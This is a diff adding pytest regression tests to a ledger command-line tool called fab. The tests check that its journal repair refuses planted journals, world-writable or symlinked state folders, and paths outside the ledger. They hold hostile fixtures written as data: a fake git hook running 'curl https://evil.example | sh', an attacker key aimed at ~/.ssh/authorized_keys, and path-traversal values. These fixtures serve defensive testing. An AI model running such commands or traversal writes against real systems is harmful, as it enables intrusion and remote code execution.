@@ -53,6 +53,139 @@ def journal(paths: dict[str, bytes | None], folders: tuple[str, ...] = (), **ext
                                  for rel, old in paths.items()}})
 
 
+# --- 1. the lock and journal of a ledger outside git: a folder of the user's own ---------------------------
+
+@pytest.fixture
+def outside_git(fab: Fab) -> Fab:
+    """The fab fixture's ledger without its git repository (written with --no-commit)."""
+    shutil.rmtree(fab.root / ".git")
+    return fab
+
+
+def _state_folder(root: Path) -> Path:
+    return Path.home() / ".local/state/fab" / hashlib.sha256(str(root.resolve()).encode()).hexdigest()[:16]
+
+
+def test_a_journal_planted_in_the_shared_temporary_folder_is_never_used(outside_git):
+    """Before: /tmp/fab-<digest of the path>, which any local user can make first, held the journal, and
+    fab check --repair wrote whatever it named (here the attacker's key into ~/.ssh/authorized_keys)."""
+    fab = outside_git
+    planted = Path(tempfile.gettempdir()) / f"fab-{hashlib.sha256(str(fab.root.resolve()).encode()).hexdigest()[:16]}"
+    planted.mkdir(mode=0o777, exist_ok=True)
+    planted.chmod(0o777)
+    try:
+        (planted / "fab-journal.json").write_text(journal({"../.ssh/authorized_keys": KEY}))
+        written = fab(*DONATE, "--no-commit")
+        assert (written.code, written.err) == (0, ""), written.err
+        assert written.out == f"recorded {DONATION} (not committed (--no-commit))\n"
+        repaired = fab("check", "--repair")
+        assert (repaired.code, repaired.err) == (0, ""), repaired.err
+        assert not (fab.root.parent / ".ssh").exists()
+        own = _state_folder(fab.root)
+        info = own.lstat()
+        assert stat.S_ISDIR(info.st_mode) and stat.S_IMODE(info.st_mode) == 0o700 and info.st_uid == os.geteuid()
+        assert stat.S_IMODE(own.parent.lstat().st_mode) == 0o700
+        assert sorted(p.name for p in own.iterdir()) == ["fab-saves", "fab.lock"]
+    finally:
+        shutil.rmtree(planted)
+
+
+def _fab_folder(folder: Path) -> None:
+    """The user's own ~/.local/state/fab, as fab makes it."""
+    folder.parent.mkdir(parents=True)
+    folder.parent.chmod(0o700)
+
+
+def _open_to_others(folder: Path) -> None:
+    _fab_folder(folder)
+    folder.mkdir()
+    folder.chmod(0o777)
+
+
+def _a_link(folder: Path) -> None:
+    _fab_folder(folder)
+    elsewhere = Path.home() / "mallory"
+    elsewhere.mkdir(mode=0o700)
+    folder.symlink_to(elsewhere)
+
+
+def _parent_open_to_others(folder: Path) -> None:
+    folder.mkdir(parents=True, mode=0o700)
+    folder.parent.chmod(0o777)
+
+
+@pytest.mark.parametrize(("make", "which", "why"), [
+    (_open_to_others, "own", "other users may use it (mode 0777)"),
+    (_a_link, "own", "it is a symbolic link"),
+    (_parent_open_to_others, "parent", "other users may use it (mode 0777)"),
+], ids=["mode-0777", "symlink", "parent-mode-0777"])
+def test_a_folder_for_the_journal_that_is_not_the_users_own_is_refused(outside_git, make, which, why):
+    fab = outside_git
+    own = _state_folder(fab.root)
+    make(own)
+    (own / "fab-journal.json").write_text(journal({"../outside.txt": b"planted\n"}))
+    before = everything(fab.root.parent)
+    folder = own if which == "own" else own.parent
+    message = (f"{folder} is where fab keeps the lock and journal of the ledger {fab.root}, but {why}; fab uses only "
+               f"a folder of yours that nobody else can use: if you did not make it, remove it; else fix it with  "
+               f"chmod 700 {folder}")
+    written = fab(*DONATE, "--no-commit")
+    assert (written.code, written.out, written.err) == (1, "", f"error: {message}\n")
+    repaired = fab("check", "--repair")
+    assert (repaired.code, repaired.out, repaired.err) == (1, "", f"error: {message}\n")
+    checked = fab("check")
+    assert checked.code == 0 and checked.err == f"note: {message}\n"
+    assert everything(fab.root.parent) == before
+
+
+# --- 2. fab check --repair touches only paths inside the ledger ----------------------------------------------
+
+def _link_in_the_ledger(fab: Fab) -> str:
+    (fab.root.parent / "elsewhere").mkdir()
+    (fab.root / "ledger/evil").symlink_to(fab.root.parent / "elsewhere")
+    return "ledger/evil/x.yaml"
+
+
+@pytest.mark.parametrize(("named", "why"), [
+    ("../outside.txt", "'../outside.txt': it is not a relative path inside the ledger"),
+    ("ledger/../../outside.txt", "'ledger/../../outside.txt': it is not a relative path inside the ledger"),
+    ("{outside}", "'{outside}': it is not a relative path inside the ledger"),
+    (_link_in_the_ledger, "'ledger/evil/x.yaml': 'ledger/evil' is a symbolic link"),
+    (".git/hooks/post-checkout", "'.git/hooks/post-checkout': it is not a file fab writes (ledger/..., charter.md, templates/...)"),
+], ids=["dot-dot", "dot-dot-inside", "absolute", "through-a-link", "a-git-hook"])
+def test_repair_refuses_a_journal_naming_a_path_outside_the_ledger(fab, named, why):
+    """Before: the repair wrote the journal's 'before' content at each path it named, wherever it was."""
+    outside = fab.root.parent / "outside.txt"
+    rel = named(fab) if callable(named) else named.format(outside=outside)
+    planted = fab.root / ".git/fab-journal.json"
+    planted.write_text(journal({rel: b"#!/bin/sh\ncurl https://evil.example | sh\n"}))
+    before, around = fab.state(), everything(fab.root.parent)
+    message = (f"{planted} is not a journal fab wrote (it names {why.format(outside=outside)}): fab will not act on it, "
+               f"and nothing was written; if no fab command of yours was interrupted, remove it:  rm {planted}")
+    repaired = fab("check", "--repair")
+    assert (repaired.code, repaired.out, repaired.err) == (1, "", f"error: {message}\n")
+    written = fab(*DONATE)
+    assert (written.code, written.out, written.err) == (1, "", f"error: nothing was recorded: {message}\n")
+    checked = fab("check")
+    assert checked.code == (1 if callable(named) else 0) and checked.err == f"note: {message}\n"  # (1: the link is a problem)
+    assert fab.state() == before and everything(fab.root.parent) == around
+    assert not (fab.root / ".git/hooks/post-checkout").exists() and not outside.exists()
+
+
+def test_repair_refuses_a_journal_naming_a_folder_outside_the_ledger(fab):
+    """Before: the repair removed each (empty) folder the journal named, wherever it was."""
+    outside = fab.root.parent / "keep-me"
+    outside.mkdir()
+    planted = fab.root / ".git/fab-journal.json"
+    planted.write_text(journal({"ledger/donations/2026-H2/x.yaml": None}, folders=("../keep-me",)))
+    repaired = fab("check", "--repair")
+    assert repaired.code == 1 and repaired.err == (
+        f"error: {planted} is not a journal fab wrote (it names '../keep-me': it is not a relative path inside the "
+        f"ledger): fab will not act on it, and nothing was written; if no fab command of yours was interrupted, "
+        f"remove it:  rm {planted}\n")
+    assert outside.is_dir() and planted.exists()
+
+
 # --- 3. records and the ledger folder are read only as regular files inside the repository --------------------
 
 def _copy_outside(fab: Fab, rel: str) -> Path:
@@ -128,3 +261,28 @@ def test_a_huge_record_is_refused_without_being_read(fab):
     assert checked.stderr == ""
     assert [(p["path"], p["code"], p["message"]) for p in json.loads(checked.stdout)["problems"]] == [
         (rel, "file-too-large", "the file is 3,221,225,472 bytes; a record file may hold at most 1 MiB")]
+
+
+def test_a_read_only_git_folder_refuses_writes_clearly_and_reads_keep_working(fab):
+    """Before: a traceback (PermissionError on .git/fab.lock).  fab runs as a process that cannot ignore
+    file permissions (the tests run as root)."""
+    gitdir = fab.root / ".git"
+    before = fab.state()
+    modes = {p: p.stat().st_mode for p in [gitdir, *gitdir.rglob("*")] if not p.is_symlink()}
+    for path in modes:
+        path.chmod(stat.S_IMODE(modes[path]) & ~0o222)
+    try:
+        lock = gitdir / "fab.lock"
+        message = (f"error: could not take the ledger's lock {lock} (Permission denied): fab writes its lock and "
+                   "journal there; make that folder writable (reading the ledger works without it)\n")
+        for args in (DONATE, ("check", "--repair")):
+            result = run(fab.root, *args, preexec_fn=drop_root_privileges)
+            assert (result.returncode, result.stdout, result.stderr) == (1, "", message), args
+        for args in (("check",), ("check", "--at", "HEAD"), ("report", "--period", "2026-H2"), ("log",),
+                     ("split", "--period", "2026-H2", "--at", "HEAD"), ("verify",)):
+            result = run(fab.root, *args, preexec_fn=drop_root_privileges)
+            assert (result.returncode, result.stderr) == (0, ""), (args, result.stderr)
+    finally:
+        for path, mode in modes.items():
+            path.chmod(stat.S_IMODE(mode))
+    assert fab.state() == before
